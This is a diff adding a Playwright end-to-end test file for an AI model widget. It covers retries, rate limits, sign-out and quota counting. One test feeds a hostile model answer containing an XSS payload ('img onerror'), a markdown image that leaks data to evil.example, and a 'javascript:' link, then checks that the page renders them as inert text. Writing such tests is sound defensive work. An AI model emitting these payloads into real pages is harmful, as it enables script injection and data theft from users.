@@ -1,0 +1,150 @@
+import { expect } from '@playwright/test';
+import { AssistantPage, test, unique } from '#e2e/assistant/assistant-page.ts';
+import { DEFAULT_ANSWER } from '#e2e/fakes/perplexity-wire.ts';
+import { ASSISTANT_FAILED } from '#lib/platform/messages/assistant.ts';
+
+const START = DEFAULT_ANSWER.text.slice(0, 24);
+const ANSWER = DEFAULT_ANSWER.text;
+
+test.describe('trouble', () => {
+  test.use({ expectedProblems: [/Failed to load resource.*50[024]/] });
+
+  test('a failed answer can be retried and costs nothing; one that breaks off keeps what has arrived', async ({
+    account: _signedIn,
+    assistant,
+    builder,
+  }) => {
+    await builder.open();
+    await assistant.expand();
+    await assistant.ask(unique('{{server-error once}} Who?'));
+    await expect(assistant.conversation.getByRole('alert')).toHaveText(ASSISTANT_FAILED);
+    await expect(assistant.panel.getByText('5 of 5 questions left today')).toBeVisible();
+    await assistant.conversation.getByRole('button', { name: 'Try again' }).click();
+    await expect(assistant.conversation).toContainText(ANSWER);
+    await expect(assistant.conversation.getByRole('alert')).toBeHidden();
+    await expect(assistant.panel.getByText('4 of 5 questions left today')).toBeVisible();
+
+    await assistant.ask(unique('{{cut}} Who?'));
+    await expect(assistant.conversation.getByRole('alert')).toContainText(ASSISTANT_FAILED);
+    await expect(assistant.conversation.getByRole('alert')).toContainText(START);
+    await expect(assistant.conversation.getByRole('button', { name: 'Try again' })).toBeVisible();
+    await expect(assistant.field).toBeEnabled();
+  });
+
+  test('a model’s output stays text, and a megabyte or 500 sources are cut', async ({
+    account: _signedIn,
+    assistant,
+    builder,
+    page,
+    problems,
+  }) => {
+    await builder.open();
+    await assistant.expand();
+    await assistant.ask(unique('{{hostile}} Who?'));
+    await expect(assistant.conversation).toContainText('<img src=x onerror="window.intruder=true">');
+    await expect(assistant.conversation).toContainText(
+      '![](https://evil.example/?q=secret) [click](javascript:window.intruder=true)',
+    );
+    await expect(assistant.conversation.locator('img, script, iframe')).toHaveCount(0);
+    await assistant.conversation.getByRole('button', { name: 'Show sources (1)' }).click();
+    const links = await assistant.conversation
+      .getByRole('link')
+      .evaluateAll((all) => all.map((link) => link.getAttribute('href')));
+    expect(new Set(links)).toEqual(new Set(['https://good.example.org/source']));
+    expect(await page.evaluate(() => 'intruder' in window)).toBe(false);
+    expect(problems).toEqual([]);
+
+    await assistant.ask(unique('{{large}} Who?'));
+    await expect(assistant.panel.getByText('3 of 5 questions left today')).toBeVisible();
+    expect((await assistant.conversation.textContent())?.length).toBeLessThan(18_000);
+    // The answer scrolls into view even if the user has scrolled back.
+    await assistant.conversation.evaluate(
+      (list) =>
+        new Promise((resolve) => {
+          list.addEventListener('scroll', resolve, { once: true });
+          list.scrollTo({ top: 0 });
+        }),
+    );
+    await assistant.ask(unique('{{many-citations}} Who?'));
+    await expect(assistant.conversation.getByRole('button', { name: 'Show sources (20)' })).toBeInViewport();
+  });
+
+  test('signing out during a question leaves nothing of it behind', async ({
+    account: _signedIn,
+    assistant,
+    builder,
+    page,
+  }) => {
+    await builder.open();
+    await assistant.expand();
+    const question = unique('{{hang}} Who?');
+    await assistant.ask(question);
+    await expect(assistant.conversation).toContainText(question);
+    await page.getByRole('button', { name: 'Account menu' }).click();
+    await page.getByRole('button', { name: 'Sign Out' }).click();
+    await expect(assistant.panel.getByText('Authentication Required')).toBeVisible();
+    await expect(assistant.conversation).not.toContainText(question);
+    await expect(assistant.field).toBeDisabled();
+  });
+});
+
+test.describe('two tabs', () => {
+  test.use({ expectedProblems: [/Failed to load resource.*429/] });
+
+  test('share a free user’s limit, even after a reload', async ({
+    account: _signedIn,
+    assistant,
+    builder,
+    context,
+  }) => {
+    await builder.open();
+    await assistant.expand();
+    const other = await context.newPage();
+    const second = new AssistantPage(other);
+    await other.goto('/');
+    await second.expand();
+    await expect(second.panel.getByText('5 of 5 questions left today')).toBeVisible();
+    for (let left = 4; left >= 0; left -= 1) {
+      await assistant.ask(unique('Who?'));
+      await expect(assistant.panel.getByText(`${left} of 5 questions left today`)).toBeVisible();
+    }
+    await second.ask(unique('And here?'));
+    await expect(second.conversation.getByRole('alert')).toHaveText('Rate Limit Reached');
+    await expect(second.panel.getByText('0 of 5 questions left today')).toBeVisible();
+    await expect(second.field).toBeDisabled();
+    await expect(assistant.panel.getByText('Rate Limit Reached')).toBeVisible();
+    await expect(assistant.field).toBeDisabled();
+    await expect(assistant.send).toBeDisabled();
+    await other.reload();
+    await second.expand();
+    await expect(second.panel.getByText('0 of 5 questions left today')).toBeVisible();
+    await expect(second.field).toBeDisabled();
+  });
+});
+
+test('of fifty questions abandoned after 50 ms, exactly those sent to the model count', async ({
+  account,
+  baseURL,
+}) => {
+  const asked = unique('Who, again and again?');
+  const ask = () =>
+    fetch(`${baseURL}/api/ai/chat`, {
+      method: 'POST',
+      headers: { Authorization: `Bearer ${account.token}`, 'Content-Type': 'application/json' },
+      body: JSON.stringify({ messages: [{ role: 'user', content: asked }], source: 'widget' }),
+      signal: AbortSignal.timeout(50),
+    }).catch(() => null);
+  await Promise.all(Array.from({ length: 50 }, ask));
+  const counts = async () => {
+    const profile = await fetch(`${baseURL}/api/auth/profile`, {
+      headers: { Authorization: `Bearer ${account.token}` },
+    });
+    const { chat } = (await profile.json()) as { chat: { used: number } };
+    const fake = await fetch(`${process.env.PERPLEXITY_BASE_URL}/__calls`);
+    const { calls } = (await fake.json()) as { calls: { question: string }[] };
+    return { used: chat.used, calls: calls.filter(({ question }) => question === asked).length };
+  };
+  // The server finishes the requests it has accepted.
+  await expect.poll(async () => (await counts()).calls, { timeout: 20_000 }).toBe(5);
+  expect(await counts()).toEqual({ used: 5, calls: 5 });
+});
